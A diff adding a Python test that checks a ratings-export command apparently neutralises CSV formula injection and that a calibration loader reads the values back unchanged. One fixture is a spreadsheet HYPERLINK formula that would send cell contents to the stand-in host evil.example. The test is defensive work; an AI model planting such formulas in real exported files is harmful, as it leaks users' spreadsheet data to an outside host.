@@ -462,3 +462,30 @@ def test_an_eval_writes_no_ratings_key(tmp_path):
     # promptfoo's CSV layout is unchanged for a run without ratings
     cli("eval", "--no-progress-bar", "--no-table", "-c", tmp_path / "c.yaml", "-o", tmp_path / "r.csv", "--no-write")
     assert "Ratings" not in (tmp_path / "r.csv").read_text().splitlines()[0]
+
+
+def test_ratings_export_neutralises_formulas_and_calibrate_reads_them_back(tmp_path):
+    """A rated output `=HYPERLINK(…)` was a live formula in `ratings export`'s CSV (issue 48): it is
+    written as text (a leading '), and calibrate's loader reads the value as it was; numbers stay."""
+    import csv
+    import io
+
+    from factcli.config.labels import load_items
+
+    formula, plus, number = '=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-0.5"
+    cfg = write(tmp_path / "c.yaml", "prompts: ['{{w}}']\nproviders: [echo]\ntests:\n"
+                + "".join(f"  - vars: {{w: {json.dumps(w)}}}\n" for w in (formula, plus, number, "'=kept as written")))
+    db = tmp_path / "r.db"
+    assert cli("eval", "--no-progress-bar", "--no-table", "-c", cfg, "--db", db).exit_code == 0
+    with Store.open(db) as store:
+        run = store.resolve(None)["id"]
+        for t in range(4):
+            R.add_rating(store, run, test_idx=t, prompt_idx=0, passed=t % 2 == 0, rater="ann")
+    out = tmp_path / "labels.csv"
+    assert cli("ratings", "export", run, "--db", db, "-o", out).exit_code == 0
+    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
+    assert [r["output"] for r in rows] == ["'" + formula, "'" + plus, number, "''=kept as written"]
+    assert not any(v.startswith(("=", "+", "@")) for r in rows for v in r.values())
+    items = load_items(out)
+    assert [it.output for it in items] == [formula, plus, number, "'=kept as written"]  # exactly as rated
+    assert [it.gold for it in items] == [True, False, True, False]
